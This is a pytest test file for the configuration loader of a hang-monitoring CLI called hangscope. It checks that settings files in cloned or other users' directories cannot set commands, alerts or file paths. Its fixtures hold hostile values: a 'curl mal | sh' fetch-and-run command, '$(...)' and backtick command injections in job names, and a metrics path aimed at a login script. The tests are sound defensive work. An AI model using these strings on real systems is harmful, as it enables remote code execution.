"""`hangscope.toml` and `[tool.hangscope]`: what they may say, who wins over them, and whose commands are taken."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from hangscope.cli import config_file
from hangscope.cli.main import main
from hangscope.errors import SettingsError

root_only = pytest.mark.skipif(os.geteuid() != 0, reason="needs root, to be another user beside")


@pytest.fixture(autouse=True)
def own(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own settings, none yet."""
    place = tmp_path_factory.mktemp("config")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(place))
    (place / "hangscope").mkdir()
    return place / "hangscope"


def wrote(folder: Path, text: str, name: str = "hangscope.toml") -> Path:
    folder.chmod(0o755)
    path = folder / name
    path.write_text(text)
    path.chmod(0o644)
    return path


def test_every_setting_has_its_option() -> None:
    """A file can say what an option of `run` can say, under the same name."""
    from hangscope.cli.verbs.run import command

    options = {parameter.opts[0].removeprefix("--") for parameter in command.params if parameter.opts[0][:2] == "--"}
    assert options - {"config", "attempt", "help"} == set(config_file.KEYS)


def test_the_files_own_table_is_read(tmp_path: Path) -> None:
    """hangscope.toml as a whole, pyproject.toml by its table; the former alone where both are there."""
    wrote(tmp_path, '[tool.hangscope]\nstall-after = 60\non-hang = "kill"\n[tool.other]\nx = 1\n', "pyproject.toml")
    assert config_file.load(None, tmp_path) == {"stall_after": 60, "on_hang": ("kill",)}
    wrote(tmp_path, 'job = "j"\nkeep = true\nmetrics-port = 9400\n')
    assert config_file.load(None, tmp_path) == {"job": "j", "keep": True, "metrics_port": "9400"}


def test_a_project_without_our_table_is_left_alone(tmp_path: Path) -> None:
    """Also one that is no TOML at all: it is somebody else's file."""
    assert config_file.load(None, tmp_path) == {}
    wrote(tmp_path, "[project]\nname = 'x'\n", "pyproject.toml")
    assert config_file.load(None, tmp_path) == {}
    wrote(tmp_path, "[project\n", "pyproject.toml")
    assert config_file.load(None, tmp_path) == {}


@pytest.mark.parametrize(
    ("text", "said", "hint"),
    [
        ("stall_after = 3", "unknown setting 'stall_after'", "did you mean stall-after?"),
        ("colour = 1", "unknown setting 'colour'", "it may have: dir, job"),
        ('stall-after = "3x"', "stall-after = '3x' is not a time", "write 90, '30s' or '5m'"),
        ("stall-after = true", "stall-after must be a number of seconds, or a string such as '5m', not true or", None),
        ("keep = 1", "keep must be true or false, not a number", None),
        ("max-incidents = 1.5", "max-incidents must be a whole number, not a number", None),
        ("on-hang = ['kill', 3]", "on-hang must be a string or a list of strings, not a number", None),
        ("job = 1979-05-27", "job must be a string, not a date or time", None),
        ("[run]\nkeep = true", "unknown setting 'run'", "it may have"),
        ("keep = ", "Invalid value", "TOML"),
    ],
)
def test_a_wrong_file_is_an_error_that_names_file_and_key(
    tmp_path: Path, text: str, said: str, hint: str | None
) -> None:
    """Before the job starts, with the cure where there is one."""
    path = wrote(tmp_path, text)
    with pytest.raises(SettingsError) as error:
        config_file.load(None, tmp_path)
    assert str(error.value).startswith(f"{path}: ")
    assert said in str(error.value)
    assert hint is None or hint in (error.value.hint or "")


def ignored(folder: Path) -> tuple[dict[str, object], list[str]]:
    """What counts of the settings in a directory, and what is said about those that do not."""
    said: list[str] = []
    return config_file.load(None, folder, said.append), said


EVERYTHING = """
dir = "/home/mal/evidence"
metrics = "/home/me/.bash_profile"
on-hang = ["kill", "curl mal | sh"]
metrics-port = "0.0.0.0:9400"
job = "$(CMD)"
stall-after = 60
"""


def test_a_file_in_the_working_directory_sets_no_commands_and_no_places(tmp_path: Path) -> None:
    """A project that was cloned is ours by its owner: what it says about commands and places is ignored, once."""
    path = wrote(tmp_path, EVERYTHING)
    assert ignored(tmp_path)[0] == {"job": "$(CMD)", "stall_after": 60}
    (line,) = ignored(tmp_path)[1]
    assert line.startswith(f"{path}: dir, metrics, on-hang, metrics-port is ignored here")
    wrote(tmp_path, 'on-hang = ["kill", "report"]\nmetrics-port = 9400')
    assert ignored(tmp_path) == ({"on_hang": ("kill", "report"), "metrics_port": "9400"}, [])


@pytest.mark.parametrize("word", ["wandb", "slack:env:HOOK", "webhook:/home/mal/hook"])
def test_a_file_in_the_working_directory_sends_no_alerts(tmp_path: Path, word: str) -> None:
    """A cloned project does not decide who hears of a hang."""
    wrote(tmp_path, f'on-hang = ["kill", "{word}"]')
    found, (line,) = ignored(tmp_path)
    assert found == {}
    assert "on-hang is ignored here" in line


def test_the_users_own_file_sets_all_of_it(tmp_path: Path, own: Path) -> None:
    """~/.config is where the user alone speaks; the working directory wins where it may speak; --config says all."""
    wrote(own, EVERYTHING)
    wrote(tmp_path, 'job = "here"')
    found, said = ignored(tmp_path)
    assert said == []
    assert found["directory"] == "/home/mal/evidence"
    assert found["on_hang"] == ("kill", "curl mal | sh")
    assert (found["job"], found["stall_after"]) == ("here", 60)
    asked = wrote(tmp_path, EVERYTHING, "asked.toml")
    assert config_file.load(asked, tmp_path)["metrics_file"] == "/home/me/.bash_profile"


@pytest.mark.parametrize("name", ["hangscope.toml", "pyproject.toml"])
@pytest.mark.parametrize("what", ["file", "folder"])
@pytest.mark.parametrize("mode", [0o020, 0o002])
def test_a_file_that_others_can_write_is_ignored_and_this_is_said(
    tmp_path: Path, name: str, what: str, mode: int
) -> None:
    """The same of its directory: whoever can write there can exchange it. Asked for by name, it is an error."""
    path = wrote(tmp_path, "[tool.hangscope]\nkeep = true" if name == "pyproject.toml" else "keep = true", name)
    assert ignored(tmp_path) == ({"keep": True}, [])
    place = path if what == "file" else tmp_path
    os.chown(place, -1, 12345) if os.geteuid() == 0 else None
    place.chmod(place.stat().st_mode | mode)
    found, said = ignored(tmp_path)
    if mode == 0o020 and os.geteuid() != 0:
        pytest.skip("needs root, to give a file to a group of others")
    assert found == {}
    assert len(said) == 1
    assert "may write it" in said[0]
    with pytest.raises(SettingsError, match="may write it"):
        config_file.load(path, tmp_path)


def test_a_link_leads_to_no_file_of_somebody_else(tmp_path: Path) -> None:
    """The file that a link of ours leads to, and the directory it lies in, are looked at like the link's own."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "hangscope.toml").symlink_to(wrote(elsewhere, "keep = true"))
    assert ignored(folder) == ({"keep": True}, [])
    elsewhere.chmod(0o777)
    assert ignored(folder)[0] == {}


@root_only
def test_settings_of_another_user_are_none_of_ours(tmp_path: Path) -> None:
    """Root, or anybody, in a directory with a file of somebody else's: it is ignored, and named."""
    path = wrote(tmp_path, EVERYTHING)
    os.chown(path, 12345, 12345)
    found, said = ignored(tmp_path)
    assert found == {}
    assert "belongs to another user (user 12345)" in said[0]
    for folder in path.parents:  # pytest keeps its folders to itself
        if folder.stat().st_uid == os.geteuid() and folder != Path("/"):
            folder.chmod(folder.stat().st_mode | 0o011)
    assert asked_as(23456, path) == "{} 1"
    assert asked_as(12345, path) == "{'job': '$(CMD)', 'stall_after': 60} 1"


def asked_as(user: int, path: Path) -> str:
    """What counts of a file for another user, and how much is said: asked in a process that has become that one."""
    folder = str(path.parent)
    code = (
        f"import os, sys; sys.path[:] = {sys.path!r}\nfrom pathlib import Path; from hangscope.cli import config_file\n"
        f"os.setuid({user}); said = []; print(config_file.load(None, Path({folder!r}), said.append), len(said))"
    )
    return subprocess.run([sys.executable, "-I", "-c", code], env={}, capture_output=True, text=True).stdout.strip()


@root_only
def test_a_run_in_a_strangers_directory_writes_nothing_where_its_settings_say(tmp_path: Path) -> None:
    """The attack as it was: metrics into the login script, with a command for the job's name; evidence to the other."""
    profile = tmp_path / "home" / ".bash_profile"
    profile.parent.mkdir()
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    theirs = tmp_path / "theirs"
    path = wrote(shared, f'job = "$(touch {tmp_path}/ran)"\nmetrics = "{profile}"\ndir = "{theirs}"\nkeep = true\n')
    os.chown(path, 12345, 12345)
    words = [sys.executable, "-m", "hangscope", "run", "--keep", "--", "sleep", "3"]
    done = subprocess.run(words, cwd=shared, capture_output=True, text=True, env={**os.environ, "HOME": str(tmp_path)})
    assert done.returncode == 0
    assert done.stderr.count("is ignored") == 1
    assert not profile.exists()
    assert not theirs.exists()


def test_names_in_settings_are_data_for_a_shell(tmp_path: Path) -> None:
    """`eval "$(hangscope env)"` with a job, a node and a directory named like commands runs none of them."""
    evil = f"$(touch {tmp_path}/a)`touch {tmp_path}/b`';touch {tmp_path}/c;'"
    for kind in ("shell", "torchrun", "slurm"):
        words = ["env", "--torch", "2.8", "--format", kind, "--job", evil, "--attempt", evil, "--node", evil]
        done = subprocess.run([sys.executable, "-m", "hangscope", *words, "--dir", evil], capture_output=True, cwd="/")
        text = done.stdout.decode().replace(" torchrun\n", " true\n")
        assert text
        subprocess.run(["/bin/sh", "-c", text], cwd=tmp_path, capture_output=True)
    assert not [name for name in os.listdir(tmp_path) if name in "abc"]


def test_a_pipe_or_a_huge_file_is_ignored_and_no_wait(tmp_path: Path) -> None:
    """What is no regular file, or too large for settings, keeps no job from starting unless it was asked for."""
    os.mkfifo(tmp_path / "hangscope.toml")
    found, said = ignored(tmp_path)
    assert found == {}
    assert "a pipe, not a file" in said[0]
    (tmp_path / "hangscope.toml").unlink()
    path = wrote(tmp_path, "#" * (config_file.MOST_BYTES + 1))
    found, said = ignored(tmp_path)
    assert found == {}
    assert "not a settings file" in said[0]
    with pytest.raises(SettingsError, match="not a settings file"):
        config_file.load(path, tmp_path)


def test_options_win_over_the_environment_and_that_over_the_file(
    tmp_path: Path, own: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """For one setting given three times, the nearest counts: told apart by which value is refused."""
    monkeypatch.chdir(tmp_path)
    wrote(tmp_path, "grace = -1")
    monkeypatch.delenv("HANGSCOPE_GRACE", raising=False)
    assert main(["run", "--", "true"]) == 2  # the file's
    assert "--grace must be" in capsys.readouterr().err
    monkeypatch.setenv("HANGSCOPE_GRACE", "x")
    assert main(["run", "--", "true"]) == 2  # the environment's
    assert "'x' is not a time such as" in capsys.readouterr().err
    assert main(["run", "--grace", "1", "--", "no-such-program"]) == 127  # the option's, which is well
    wrote(own, 'on-hang = "no-such-program-a"')
    assert main(["run", "--grace", "1", "--", "true"]) == 2
    assert "no-such-program-a" in capsys.readouterr().err
    monkeypatch.setenv("HANGSCOPE_ON_HANG", "no-such-program-b")
    assert main(["run", "--grace", "1", "--", "true"]) == 2
    assert "no-such-program-b" in capsys.readouterr().err
    assert main(["run", "--grace", "1", "--on-hang", "no-such-program-c", "--", "true"]) == 2
    assert "no-such-program-c" in capsys.readouterr().err
